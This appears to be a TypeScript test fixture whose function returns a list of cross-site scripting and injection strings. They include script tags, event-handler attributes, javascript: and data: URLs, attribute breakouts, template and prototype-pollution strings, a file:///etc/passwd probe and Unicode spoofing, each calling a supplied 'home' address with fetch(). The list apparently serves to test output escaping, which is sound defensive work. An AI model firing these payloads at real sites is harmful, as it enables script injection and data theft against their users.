const rightToLeft = '\u202E'

/**
 * Texts that would do something if a page took them for more than text. What gets through calls home.
 *
 * @param home an address that must never be asked
 */
export function listPayloads(home: string): readonly string[] {
  const call = `fetch('${home}')`
  return [
    `<script>${call}</script>`,
    `<img src=x onerror="${call}">`,
    `<img src="${home}/image">`,
    `<svg onload="${call}"></svg>`,
    `<svg><script>${call}</script></svg>`,
    `<iframe src="${home}/frame"></iframe>`,
    `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
    `<object data="${home}/object"></object>`,
    `<embed src="${home}/embed">`,
    `<link rel="stylesheet" href="${home}/style">`,
    `<style>@import '${home}/import'; * { display: none !important }</style>`,
    `<base href="${home}/">`,
    `<meta http-equiv="refresh" content="0;url=${home}/refresh">`,
    `<form action="${home}/form"><button autofocus onfocus="${call}">go</button></form>`,
    `<details open ontoggle="${call}">x</details>`,
    `<video src="${home}/video" onerror="${call}"></video>`,
    `<a href="javascript:${call}">click</a>`,
    `"><script>${call}</script>`,
    `' onmouseover='${call}' x='`,
    `" autofocus onfocus="${call}" x="`,
    `</script><script>${call}</script>`,
    `</title></style></textarea><img src=x onerror="${call}">`,
    `javascript:${call}`,
    `JaVaScRiPt:${call}`,
    ` javascript:${call}`,
    `java\tscript:${call}`,
    `javascript://example.com/%0A${call}`,
    `data:text/html,<script>${call}</script>`,
    `vbscript:msgbox(1)`,
    `file:///etc/passwd`,
    `//${new URL(home).host}/relative`,
    `https://bank.example@${new URL(home).host}/`,
    `{{constructor.constructor("${call}")()}}`,
    `\${${call}}`,
    `url(${home}/css)`,
    `__proto__`,
    `constructor`,
    `toString`,
    `${rightToLeft}cvs.kcehc${rightToLeft}`,
    `\u2066evil\u2069 \u200Bzero\u200Dwidth\uFEFF`,
    `line one\nline two`,
    `${'long '.repeat(2_048)}end`,
    'W'.repeat(10_240),
    `Z${'\u0336\u0337\u0338'.repeat(300)}algo`,
    `&lt;script&gt;${call}&lt;/script&gt;`,
    `%3Cscript%3E${call}%3C/script%3E`,
  ]
}
